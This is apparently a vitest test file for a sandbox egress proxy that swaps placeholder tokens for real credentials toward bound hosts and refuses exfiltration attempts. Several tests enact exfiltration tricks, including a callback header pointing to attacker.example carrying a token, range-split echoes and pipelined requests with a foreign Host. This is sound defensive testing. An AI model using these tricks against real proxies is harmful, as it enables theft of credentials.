import type { ChildProcess } from "node:child_process";
import { createHash, X509Certificate } from "node:crypto";
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import https from "node:https";
import { createRequire } from "node:module";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import tls from "node:tls";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { rawTlsThroughProxy, startEgressProxyProcess } from "./egress-proxy-process.test-helpers.js";

// The real proxy program (the bundle the proxy container runs) as a child process on 127.0.0.1,
// with real HTTPS servers behind it: TLS termination, substitution and refusals end to end.
const { createCertificateAuthority } = createRequire(import.meta.url)("./proxy/x509.cjs") as {
  createCertificateAuthority(name: string): { certificatePem: string; leafKeyPem: string; leafFor(host: string): string };
};

const REAL = "ghp_R3alS3cretValue0123456789abcdefABCD";
const PLACEHOLDER = "ghp_PlaceholderValue0123456789abcdefXYZ";
const OTHER_REAL = "sk-OtherRealValue000000000000000000";
const OTHER_PLACEHOLDER = "sk-OtherPlaceholder0000000000000000";
// A value under 16 bytes: its placeholder is longer than it.
const SHORT_REAL = "hunter2-short";
const SHORT_PLACEHOLDER = "MONOCLAW_PLACEHOLDER_0123456789ab";
// Not ASCII: headers carry bytes, Node shows them as latin1 characters.
const UNICODE_REAL = "pässwörd-€-0123456789";
const UNICODE_PLACEHOLDER = "u".repeat(Buffer.byteLength(UNICODE_REAL));

interface Seen {
  server: string;
  url: string;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

const seen: Seen[] = [];
const upstreamCa = createCertificateAuthority("upstream test CA");
const state = mkdtempSync(join(tmpdir(), "monoclaw-egress-state-"));
let proxy: ChildProcess;
let proxyPort = 0;
let proxyOutput = "";
const servers: http.Server[] = [];
let boundPort = 0;
let unboundPort = 0;
let plainPort = 0;

function echoServer(name: string, secure: boolean): Promise<number> {
  const handler: http.RequestListener = (request, response) => {
    // Like a server refusing an upload at once: it answers before the body has arrived.
    if (request.url === "/answers-early") {
      seen.push({ server: name, url: request.url, headers: request.headers, body: "" });
      request.resume();
      return response.writeHead(200, { "content-type": "text/plain" }).end("early\n".repeat(1000));
    }
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      const entry = { server: name, url: request.url ?? "", headers: request.headers, body: Buffer.concat(chunks).toString("utf8") };
      seen.push(entry);
      // Like httpbin: the request comes back, credentials and all.
      const body = Buffer.from(JSON.stringify(entry));
      const echo = { "content-type": "application/json", "x-echo-authorization": String(request.headers.authorization ?? "") };
      // Like httpbin's /gzip: compressed whatever the client asked for.
      if (entry.url.startsWith("/gzip")) {
        response.writeHead(200, { ...echo, "content-encoding": "gzip" });
        return response.end(gzipSync(body));
      }
      // A credential echoed in a header's name (a token of lower-case characters survives the name's lower-casing).
      if (entry.url.startsWith("/in-header-name")) {
        response.writeHead(200, { ...echo, [`x-seen-${String(request.headers.authorization).replace(/^Bearer /, "")}`]: "1" });
        return response.end("{}");
      }
      // A transfer coding the client may decode (curl --tr-encoding) but the proxy would not look into.
      if (entry.url.startsWith("/te-gzip")) {
        response.writeHead(200, { ...echo, "transfer-encoding": "gzip, chunked" });
        return response.end(gzipSync(body));
      }
      // Like a static file server: a byte range of the echo.
      const range = /^bytes=(\d+)-(\d+)$/.exec(String(request.headers.range ?? ""));
      if (range) {
        response.writeHead(206, { ...echo, "content-range": `bytes ${range[1]}-${range[2]}/${body.length}` });
        return response.end(body.subarray(Number(range[1]), Number(range[2]) + 1));
      }
      response.writeHead(200, echo);
      response.end(body);
    });
  };
  const server = secure ? https.createServer({ key: upstreamCa.leafKeyPem, cert: upstreamCa.leafFor("localhost") }, handler) : http.createServer(handler);
  servers.push(server);
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve((server.address() as AddressInfo).port)));
}

/** Writes the policy, waits until the proxy applied it, and returns the SHA-256 of its text. */
async function applyPolicy(extra: Record<string, unknown>): Promise<string> {
  const policy = JSON.stringify({
    sandbox: "test-box",
    allow: [`localhost:${boundPort}`, `localhost:${unboundPort}`, `localhost:${plainPort}`],
    config_allow: [],
    deny: [],
    allow_private: ["127.0.0.0/8"],
    host_addresses: [],
    secrets: [
      { name: "GITHUB_TOKEN", placeholder: PLACEHOLDER, value: REAL, hosts: [`localhost:${boundPort}`] },
      { name: "OTHER_KEY", placeholder: OTHER_PLACEHOLDER, value: OTHER_REAL, hosts: ["elsewhere.example"] },
      { name: "SHORT_PIN", placeholder: SHORT_PLACEHOLDER, value: SHORT_REAL, hosts: [`localhost:${boundPort}`] },
      { name: "UNICODE_PASSWORD", placeholder: UNICODE_PLACEHOLDER, value: UNICODE_REAL, hosts: [`localhost:${boundPort}`] },
    ],
    upstream_ca: upstreamCa.certificatePem,
    ...extra,
  });
  writeFileSync(join(state, "policy.json"), policy);
  const hash = createHash("sha256").update(policy).digest("hex");
  for (let i = 0; i < 100; i++) {
    proxy.kill("SIGHUP");
    await new Promise((resolve) => setTimeout(resolve, 30));
    // Not there until the proxy applied its first policy.
    if (existsSync(join(state, "applied")) && readFileSync(join(state, "applied"), "utf8") === hash) return hash;
  }
  throw new Error("the proxy did not apply the policy");
}

interface Reply {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** An HTTPS request as a sandboxed client makes it: CONNECT through the proxy, then TLS verified against `ca`. */
function viaConnect(options: {
  port: number;
  path?: string;
  headers?: Record<string, string>;
  body?: string;
  ca: string;
  servername?: string;
}): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const connect = http.request({ host: "127.0.0.1", port: proxyPort, method: "CONNECT", path: `localhost:${options.port}` });
    connect.on("connect", (response, socket) => {
      if (response.statusCode !== 200) {
        let body = "";
        socket.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
        socket.on("end", () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body }));
        return;
      }
      const secure = tls.connect({ socket, servername: options.servername ?? "localhost", ca: options.ca });
      secure.on("error", reject);
      const request = https.request(
        {
          createConnection: () => secure,
          path: options.path ?? "/",
          method: options.body ? "POST" : "GET",
          headers: { host: `localhost:${options.port}`, ...options.headers },
        },
        (reply) => {
          let body = "";
          reply.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
          reply.on("end", () => resolve({ status: reply.statusCode ?? 0, headers: reply.headers, body }));
        },
      );
      request.on("error", reject);
      request.end(options.body);
    });
    connect.on("error", reject);
    connect.end();
  });
}

/** Raw bytes written into one TLS connection through a CONNECT tunnel; everything the proxy answered until it closed. */
const rawTls = (port: number, bytes: string, ca: string) => rawTlsThroughProxy(proxyPort, port, bytes, ca);

/** A plain-HTTP request in absolute form through the proxy. */
function viaPlainHttp(path: string, headers: Record<string, string>): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const request = http.request({ host: "127.0.0.1", port: proxyPort, path: `http://localhost:${plainPort}${path}`, headers }, (reply) => {
      let body = "";
      reply.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
      reply.on("end", () => resolve({ status: reply.statusCode ?? 0, headers: reply.headers, body }));
    });
    request.on("error", reject);
    request.end();
  });
}

/** The proxy writes its record of a request when the response has ended: wait for it (2 s at most). */
async function recorded(pattern: string | RegExp): Promise<void> {
  const found = () => (typeof pattern === "string" ? proxyOutput.includes(pattern) : pattern.test(proxyOutput));
  for (let i = 0; i < 80 && !found(); i++) await new Promise((resolve) => setTimeout(resolve, 25));
  if (typeof pattern === "string") expect(proxyOutput).toContain(pattern);
  else expect(proxyOutput).toMatch(pattern);
}

const proxyCa = () => readFileSync(join(state, "ca.pem"), "utf8");

beforeAll(async () => {
  boundPort = await echoServer("bound", true);
  unboundPort = await echoServer("unbound", true);
  plainPort = await echoServer("plain", false);
  ({ child: proxy, port: proxyPort } = await startEgressProxyProcess(state, (text) => (proxyOutput += text)));
});

afterAll(() => {
  proxy?.kill("SIGKILL");
  for (const server of servers) server.close();
  rmSync(state, { recursive: true, force: true });
});

beforeEach(async () => {
  seen.length = 0;
  await applyPolicy({});
});

describe("egress proxy: secretless credentials", () => {
  it("puts the real value into the Authorization header only on its way to the bound host, and hands the sandbox the placeholder back", async () => {
    const reply = await viaConnect({ port: boundPort, headers: { authorization: `Bearer ${PLACEHOLDER}` }, ca: proxyCa() });
    expect(reply.status).toBe(200);
    expect(seen).toHaveLength(1);
    expect(seen[0]?.headers.authorization).toBe(`Bearer ${REAL}`);
    // The echo of the credential comes back as the placeholder, in the body and in headers.
    expect(reply.body).toContain(PLACEHOLDER);
    expect(reply.body).not.toContain(REAL);
    expect(reply.headers["x-echo-authorization"]).toBe(`Bearer ${PLACEHOLDER}`);
    await recorded('"secrets":["GITHUB_TOKEN"]');
    expect(proxyOutput).not.toContain(REAL);
  });

  it("substitutes inside Basic credentials and in x-api-key-style headers", async () => {
    const basic = Buffer.from(`x-access-token:${PLACEHOLDER}`).toString("base64");
    const reply = await viaConnect({ port: boundPort, headers: { authorization: `Basic ${basic}`, "x-api-key": PLACEHOLDER }, ca: proxyCa() });
    expect(reply.status).toBe(200);
    expect(Buffer.from(String(seen[0]?.headers.authorization).replace(/^Basic /, ""), "base64").toString()).toBe(`x-access-token:${REAL}`);
    expect(seen[0]?.headers["x-api-key"]).toBe(REAL);
  });

  it("refuses a placeholder of a secret bound to another host, and sends nothing", async () => {
    const reply = await viaConnect({ port: boundPort, headers: { authorization: `Bearer ${OTHER_PLACEHOLDER}` }, ca: proxyCa() });
    expect(reply.status).toBe(403);
    expect(reply.body).toContain("secret OTHER_KEY");
    expect(reply.body).toContain("exfiltration attempt");
    expect(seen).toHaveLength(0);
    await recorded(/"rule":"exfiltration".*"secret":"OTHER_KEY"/);
  });

  it("refuses a placeholder in a request body and never forwards it", async () => {
    const reply = await viaConnect({ port: boundPort, body: `token=${PLACEHOLDER}&x=1`, ca: proxyCa() });
    expect(reply.status).toBe(403);
    expect(reply.body).toContain("in the request body");
    expect(seen.some((entry) => entry.body.includes(PLACEHOLDER) || entry.body.includes(REAL))).toBe(false);
    // Positive control: a body without a placeholder arrives whole.
    const fine = await viaConnect({ port: boundPort, body: "token=none&x=1", ca: proxyCa() });
    expect(fine.status).toBe(200);
    expect(seen.at(-1)?.body).toBe("token=none&x=1");
  });

  it("refuses a placeholder in the URL", async () => {
    const reply = await viaConnect({ port: boundPort, path: `/?access_token=${PLACEHOLDER}`, ca: proxyCa() });
    expect(reply.status).toBe(403);
    expect(reply.body).toContain("in the URL");
    expect(seen).toHaveLength(0);
  });

  it("refuses a Host header that disagrees with the TLS server name (no substitution for a fronted host)", async () => {
    const reply = await viaConnect({ port: boundPort, headers: { host: "elsewhere.example", authorization: `Bearer ${PLACEHOLDER}` }, ca: proxyCa() });
    expect(reply.status).toBe(403);
    expect(reply.body).toContain("does not agree with the TLS server name");
    expect(seen).toHaveLength(0);
  });

  it("refuses a placeholder over plain HTTP, even to an allowed host", async () => {
    const reply = await viaPlainHttp("/", { authorization: `Bearer ${PLACEHOLDER}` });
    expect(reply.status).toBe(403);
    expect(reply.body).toContain("over plain HTTP");
    expect(seen).toHaveLength(0);
    const fine = await viaPlainHttp("/ok", { authorization: "Bearer nothing-secret" });
    expect(fine.status).toBe(200);
    expect(seen.at(-1)?.url).toBe("/ok");
  });

  it("verifies the upstream's certificate: an untrusted upstream gets no request and no secret", async () => {
    await applyPolicy({ upstream_ca: undefined });
    const reply = await viaConnect({ port: boundPort, headers: { authorization: `Bearer ${PLACEHOLDER}` }, ca: proxyCa() });
    expect(reply.status).toBe(502);
    expect(seen).toHaveLength(0);
  });

  it("tunnels a host no secret is bound to untouched (the client sees the upstream's own certificate)", async () => {
    const reply = await viaConnect({ port: unboundPort, headers: { authorization: `Bearer ${PLACEHOLDER}` }, ca: upstreamCa.certificatePem });
    expect(reply.status).toBe(200);
    // Not substituted: the unbound host gets the worthless placeholder.
    expect(seen[0]?.headers.authorization).toBe(`Bearer ${PLACEHOLDER}`);
    await expect(viaConnect({ port: unboundPort, ca: proxyCa() })).rejects.toThrow(/certificate/);
  });

  it("keeps its CA's private key in memory: the state directory holds the certificate only", () => {
    const certificate = new X509Certificate(proxyCa());
    expect(certificate.ca).toBe(true);
    for (const file of readdirSync(state)) expect(readFileSync(join(state, file), "utf8")).not.toContain("PRIVATE KEY");
  });

  it("turns the Basic credentials it encoded back into the placeholder's encoding when the upstream echoes them", async () => {
    const basic = Buffer.from(`x-access-token:${PLACEHOLDER}`).toString("base64");
    const sent = Buffer.from(`x-access-token:${REAL}`).toString("base64");
    const reply = await viaConnect({ port: boundPort, headers: { authorization: `Basic ${basic}` }, ca: proxyCa() });
    expect(reply.status).toBe(200);
    // Positive control: the upstream got the real value, and echoed it in a header and in the body.
    expect(seen[0]?.headers.authorization).toBe(`Basic ${sent}`);
    expect(reply.headers["x-echo-authorization"]).toBe(`Basic ${basic}`);
    expect(reply.body).toContain(basic);
    expect(reply.body).not.toContain(sent);
  });

  it("decodes a compressed echo before scrubbing it (the upstream gzips although the proxy asked for identity)", async () => {
    const reply = await viaConnect({ port: boundPort, path: "/gzip", headers: { authorization: `Bearer ${PLACEHOLDER}` }, ca: proxyCa() });
    expect(reply.status).toBe(200);
    expect(seen[0]?.headers.authorization).toBe(`Bearer ${REAL}`);
    // The sandbox gets the decoded body, the value turned into the placeholder.
    expect(reply.headers["content-encoding"]).toBeUndefined();
    expect(JSON.parse(reply.body).headers.authorization).toBe(`Bearer ${PLACEHOLDER}`);
    expect(reply.body).not.toContain(REAL);
  });

  it("never hands back a value under 16 bytes that the upstream echoes in a body (its placeholder is longer than it)", async () => {
    const reply = await viaConnect({ port: boundPort, headers: { authorization: `Bearer ${SHORT_PLACEHOLDER}` }, ca: proxyCa() });
    expect(reply.status).toBe(200);
    expect(seen[0]?.headers.authorization).toBe(`Bearer ${SHORT_REAL}`);
    expect(reply.headers["x-echo-authorization"]).toBe(`Bearer ${SHORT_PLACEHOLDER}`);
    // The body keeps its length (Content-Length holds) and is still JSON, without the value.
    expect(reply.body).not.toContain(SHORT_REAL);
    expect(JSON.parse(reply.body).server).toBe("bound");
  });

  it("does not let a Range request cut an echoed value into pieces the scrubber cannot recognise", async () => {
    const whole = await viaConnect({ port: boundPort, headers: { authorization: `Bearer ${PLACEHOLDER}` }, ca: proxyCa() });
    const at = whole.body.indexOf(PLACEHOLDER);
    expect(at).toBeGreaterThan(0);
    const half = Math.floor(PLACEHOLDER.length / 2);
    const pieces = [];
    for (const [from, to] of [
      [at, at + half - 1],
      [at + half, at + PLACEHOLDER.length - 1],
    ])
      pieces.push(
        (await viaConnect({ port: boundPort, headers: { authorization: `Bearer ${PLACEHOLDER}`, range: `bytes=${from}-${to}` }, ca: proxyCa() })).body,
      );
    // Positive control: the upstream got the real value each time.
    expect(seen.map((entry) => entry.headers.authorization)).toEqual([`Bearer ${REAL}`, `Bearer ${REAL}`, `Bearer ${REAL}`]);
    expect(pieces.join("")).not.toContain(REAL);
    expect(pieces.join("")).not.toContain(REAL.slice(0, half));
  });

  it("refuses a response in a transfer coding it cannot look into (gzip, chunked) rather than pass a compressed echo on", async () => {
    const reply = await viaConnect({ port: boundPort, path: "/te-gzip", headers: { authorization: `Bearer ${PLACEHOLDER}` }, ca: proxyCa() });
    // Positive control: the upstream got the real value (and answered with it, compressed).
    expect(seen[0]?.headers.authorization).toBe(`Bearer ${REAL}`);
    expect(reply.status).toBe(502);
    expect(reply.body).toContain("Transfer-Encoding gzip, chunked cannot be checked");
  });

  it("puts the value only into credential headers: a placeholder in another header (a callback URL the host would call) is refused", async () => {
    const reply = await viaConnect({
      port: boundPort,
      headers: { authorization: `Bearer ${PLACEHOLDER}`, "x-callback-url": `https://attacker.example/?t=${PLACEHOLDER}` },
      ca: proxyCa(),
    });
    expect(reply.status).toBe(403);
    expect(reply.body).toContain("in the x-callback-url header, which is not a credential header");
    expect(seen).toHaveLength(0);
    // Positive control: credential headers of other names get the value.
    const fine = await viaConnect({ port: boundPort, headers: { cookie: `session=${PLACEHOLDER}`, "private-token": PLACEHOLDER }, ca: proxyCa() });
    expect(fine.status).toBe(200);
    expect(seen[0]?.headers).toMatchObject({ cookie: `session=${REAL}`, "private-token": REAL });
  });

  it("checks every request on a kept-alive tunnel: a pipelined request with another Host or in absolute form gets no value", async () => {
    const request = (target: string, host: string) => `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\n\r\n`;
    const good = request("/first", `localhost:${boundPort}`);
    for (const second of [request("/second", "elsewhere.example"), request("https://elsewhere.example/second", `localhost:${boundPort}`)]) {
      seen.length = 0;
      const answer = await rawTls(boundPort, good + second, proxyCa());
      // Positive control: the first request got through with the value.
      expect(answer).toMatch(/^HTTP\/1\.1 200/);
      expect(seen.map((entry) => [entry.url, entry.headers.authorization])).toEqual([["/first", `Bearer ${REAL}`]]);
      expect(answer).toMatch(/HTTP\/1\.1 403[\s\S]*(does not agree with the TLS server name|origin form)/);
    }
  });

  it("scrubs a value echoed in a response header's name", async () => {
    const reply = await viaConnect({ port: boundPort, path: "/in-header-name", headers: { authorization: `Bearer ${SHORT_PLACEHOLDER}` }, ca: proxyCa() });
    expect(reply.status).toBe(200);
    expect(seen[0]?.headers.authorization).toBe(`Bearer ${SHORT_REAL}`);
    const names = Object.keys(reply.headers);
    // Positive control: the header came back, named after the placeholder.
    expect(names).toContain(`x-seen-${SHORT_PLACEHOLDER.toLowerCase()}`);
    expect(names.join(" ")).not.toContain(SHORT_REAL);
  });

  it("sends a value that is not ASCII as its UTF-8 bytes, and scrubs those bytes from an echo in a header", async () => {
    const reply = await viaConnect({ port: boundPort, headers: { authorization: `Bearer ${UNICODE_PLACEHOLDER}` }, ca: proxyCa() });
    expect(reply.status).toBe(200);
    expect(Buffer.from(String(seen[0]?.headers.authorization), "latin1").toString("utf8")).toBe(`Bearer ${UNICODE_REAL}`);
    expect(reply.headers["x-echo-authorization"]).toBe(`Bearer ${UNICODE_PLACEHOLDER}`);
  });

  it("stays up when a body's placeholder turns up after the upstream has answered (and the sandbox gets no more of the answer)", async () => {
    const connect = http.request({ host: "127.0.0.1", port: proxyPort, method: "CONNECT", path: `localhost:${boundPort}` });
    const socket = await new Promise<import("node:net").Socket>((resolve) => connect.on("connect", (_r, s) => resolve(s)).end());
    const secure = tls.connect({ socket, servername: "localhost", ca: proxyCa() });
    const answered = new Promise<void>((resolve) => secure.once("data", () => resolve()));
    secure.write(`POST /answers-early HTTP/1.1\r\nHost: localhost:${boundPort}\r\nContent-Length: 100000\r\n\r\n${"x".repeat(100)}`);
    await answered;
    secure.write(`token=${PLACEHOLDER}`);
    await new Promise((resolve) => secure.on("close", resolve).on("error", resolve));
    await recorded(/"rule":"exfiltration".*"secret":"GITHUB_TOKEN"/);
    // Positive control: the proxy still answers.
    const after = await viaConnect({ port: boundPort, headers: { authorization: `Bearer ${PLACEHOLDER}` }, ca: proxyCa() });
    expect(after.status).toBe(200);
    expect(seen.at(-1)?.headers.authorization).toBe(`Bearer ${REAL}`);
  });

  it("records no hash of the policy's text: for a short value it would be a brute-force oracle of the value", async () => {
    const hash = await applyPolicy({ sandbox: "test-box-hash" });
    await recorded(/"sandbox":"test-box-hash","event":"policy"/);
    const line = proxyOutput.split("\n").findLast((l) => l.includes('"sandbox":"test-box-hash","event":"policy"')) ?? "";
    const record = JSON.parse(line) as { secrets: { name: string }[]; hash: string };
    // Positive control: the record names the secrets and identifies the policy.
    expect(record.secrets.map((secret) => secret.name)).toContain("SHORT_PIN");
    expect(record.hash).toMatch(/^[0-9a-f]{16}$/);
    expect(hash.startsWith(record.hash)).toBe(false);
  });
});
